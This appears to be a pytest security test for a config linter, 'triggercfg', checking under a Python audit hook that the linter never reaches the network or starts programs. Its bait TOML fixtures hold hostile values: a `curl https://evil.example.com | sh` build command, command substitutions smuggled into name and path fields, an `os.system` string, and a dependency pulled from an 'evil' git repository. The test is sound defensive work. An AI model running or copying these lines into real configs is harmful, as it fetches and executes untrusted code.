"""triggercfg never touches the network and never runs what a checked file
says (issue 9, SECURITY.md).

The CLI runs in a fresh interpreter under a Python audit hook that makes
every network call (DNS lookups included) and every way of starting a program
fail, and records the attempt. The checked files are built to tempt it: URLs
everywhere, a `#:schema` directive naming a remote schema, shell commands,
entrypoints and Python code that would leave a marker file behind.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

GUARD = textwrap.dedent(
    """
    import json, os, sys

    attempts = []
    BLOCKED = ("socket.", "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn",
               "urllib.Request", "http.client.connect", "ftplib.connect", "smtplib.connect", "ctypes.dlopen")

    def guard(event, args):
        if event == "os.posix_spawn" and list(args[1])[:1] == ["git"] and "ls-files" in list(args[1]):
            attempts.append("git ls-files")  # the one program triggercfg may start
            return
        if event.startswith(BLOCKED):
            attempts.append(event)
            raise PermissionError(f"blocked by the test: {event}")

    sys.addaudithook(guard)
    try:
        from triggercfg._entry import main
        sys.argv = ["triggercfg", *sys.argv[1:]]
        main()
    finally:
        with open(os.environ["ATTEMPTS"], "w") as out:
            json.dump(attempts, out)
    """
)

BLAXEL = """#:schema https://schemas.evil.example.com/blaxel.schema.json
type = "agent"
name = "$(touch MARKER)"

[entrypoint]
prod = "python -c 'open(\\"MARKER\\", \\"w\\")'"
dev = "touch MARKER"

[[triggers]]
id = "a"
type = "http-async"

[triggers.configuration]
callbackUrl = "http://hooks.example.com/cb"
path = "`touch MARKER`"

[env]
EXEC = "__import__('os').system('touch MARKER')"
"""

CEREBRIUM = """#:schema https://schemas.evil.example.com/cerebrium.schema.json
[cerebrium.deployment]
name = "x"
python_version = "3.11"
shell_commands = ["touch MARKER"]
pre_build_commands = ["curl https://evil.example.com | sh"]
docker_base_image_url = "https://registry.evil.example.com/image"

[cerebrium.dependencies.pip]
torch = "git+https://github.com/evil/evil.git"

[cerebrium.runtime.custom]
entrypoint = ["python", "-c", "open('MARKER', 'w')"]
"""


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "blaxel.toml").write_text(BLAXEL, encoding="utf-8")
    (tmp_path / "app" / "cerebrium.toml").write_text(CEREBRIUM, encoding="utf-8")
    (tmp_path / "app" / "custom.toml").write_text(BLAXEL, encoding="utf-8")  # found by its #:schema directive
    return tmp_path


def _guarded(tree: Path, *args: str) -> tuple[int, str, list[str]]:
    (tree / "guard.py").write_text(GUARD, encoding="utf-8")
    attempts = tree / "attempts.json"
    done = subprocess.run(
        [sys.executable, str(tree / "guard.py"), *args],
        cwd=tree / "app",
        capture_output=True,
        text=True,
        timeout=120,
        env={"ATTEMPTS": str(attempts), "PATH": "/nonexistent", "NO_COLOR": "1", "PYTHONPATH": ":".join(sys.path)},
    )
    return done.returncode, done.stdout + done.stderr, json.loads(attempts.read_text())


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["check", "."], 1),
        (["check", "custom.toml"], 1),
        (["check", "--fix", "--unsafe-fixes", "."], 1),
        (["check", "--output-format", "sarif", "."], 1),
        (["check", "--diff", "--unsafe-fixes", "."], 1),
        (["rule", "private-callback-url"], 0),
        (["schema", "--output-dir", "schemas"], 0),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else str(value),
)
def test_no_network_and_no_program_is_run(tree: Path, args: list[str], code: int) -> None:
    returncode, output, attempts = _guarded(tree, *args)
    assert attempts == [], output
    assert returncode == code, output
    assert "Traceback" not in output
    assert not list(tree.rglob("MARKER"))


def test_the_guard_catches_what_it_should(tree: Path) -> None:
    """The hook is live: a DNS lookup made inside the guarded process is recorded."""
    (tree / "app" / "probe.py").write_text("import socket\nsocket.getaddrinfo('example.com', 443)\n")
    guard = GUARD.replace(
        "from triggercfg._entry import main", "import runpy; main = lambda: runpy.run_path('probe.py')"
    )
    (tree / "guard.py").write_text(guard, encoding="utf-8")
    attempts = tree / "attempts.json"
    done = subprocess.run(
        [sys.executable, str(tree / "guard.py")],
        cwd=tree / "app",
        capture_output=True,
        text=True,
        timeout=60,
        env={"ATTEMPTS": str(attempts), "PYTHONPATH": ":".join(sys.path)},
    )
    assert done.returncode == 1 and "blocked by the test: socket.getaddrinfo" in done.stderr
    assert json.loads(attempts.read_text()) == ["socket.getaddrinfo"]


def test_in_a_git_work_tree_the_only_program_is_git_ls_files(tree: Path) -> None:
    """Inside git, the cross-file rules list the repository's config files
    with `git ls-files`; nothing else is started, nothing is fetched."""
    import shutil

    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    subprocess.run(["git", "init", "-q", str(tree)], check=True)
    (tree / "guard.py").write_text(GUARD, encoding="utf-8")
    attempts = tree / "attempts.json"
    done = subprocess.run(
        [sys.executable, str(tree / "guard.py"), "check", "blaxel.toml"],
        cwd=tree / "app",
        capture_output=True,
        text=True,
        timeout=120,
        env={
            "ATTEMPTS": str(attempts),
            "PATH": os.environ.get("PATH", ""),
            "NO_COLOR": "1",
            "PYTHONPATH": ":".join(sys.path),
        },
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert json.loads(attempts.read_text()) == ["git ls-files"]
    assert not list(tree.rglob("MARKER"))
